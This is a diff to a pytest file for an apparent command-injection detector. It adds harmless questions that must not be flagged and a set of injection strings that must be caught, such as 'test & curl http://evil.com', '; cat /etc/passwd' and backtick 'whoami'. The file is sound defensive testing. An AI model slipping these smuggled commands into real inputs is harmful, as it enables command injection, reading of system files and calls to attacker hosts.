@@ -71,10 +71,49 @@ HONEST = [
     "$(document).ready",
     "thanks ;-)",
     "SELECT * FROM users WHERE name = 'Bob' OR 1=1",
+    # Commands that are only named: in a table, a title, a list, between back-ticks, in somebody's own script.
+    "How do I make a table with columns name | id | date",
+    "Parse a CSV with header name;id;date",
+    "Columns: id | title | last | date",
+    "What is the difference between reverb & echo pedals",
+    "What are the best Xbox & PS games",
+    "Draw a house & tree",
+    "Qui sont Tic & Tac",
+    "War & peace; history & groups",
+    "Rise & shine; sleep 8 hours",
+    "What should I use; curl or wget",
+    "Python `type` function",
+    "JavaScript `find` method",
+    "HTML `dir` attribute",
+    "HTML `id` attribute",
+    "SQL `set` syntax",
+    "`curl` flags",
+    "while true; do date; sleep 1; done",
+    "mkdir foo && cd foo && touch bar.txt",
+    "docker run --rm -v $(pwd):/app node npm test",
+    "ls -la | awk '{print $5}'",
 ]
+# What the shapes of such texts are near to.
+NEAR = {
+    "127.0.0.1 & tree": "command_injection",
+    "test & ps aux": "command_injection",
+    "test & curl http://evil.com": "command_injection",
+    "test & tree & dir": "command_injection",
+    "what is my name; id": "command_injection",
+    "1|id|1": "command_injection",
+    "test;id;whoami": "command_injection",
+    "name | tree | id\n; cat /etc/passwd": "command_injection",
+    "test; timeout 5 curl evil.com": "command_injection",
+    "for f in *; do date; whoami; done": "command_injection",
+    "test $(pwd)": "command_injection",
+    "hello `whoami` world": "command_injection",
+    "test `id`": "command_injection",
+}
 
 
-@pytest.mark.parametrize(("text", "rule"), [*PLAN.items(), *DISGUISED.items()], ids=lambda text: repr(text[:40]))
+@pytest.mark.parametrize(
+    ("text", "rule"), [*PLAN.items(), *DISGUISED.items(), *NEAR.items()], ids=lambda text: repr(text[:40])
+)
 def test_a_bare_attack_is_refused_by_its_rule(text, rule):
     assert rule in [hit.rule for hit in judge(text)]
     with pytest.raises(BadFrame) as refused:
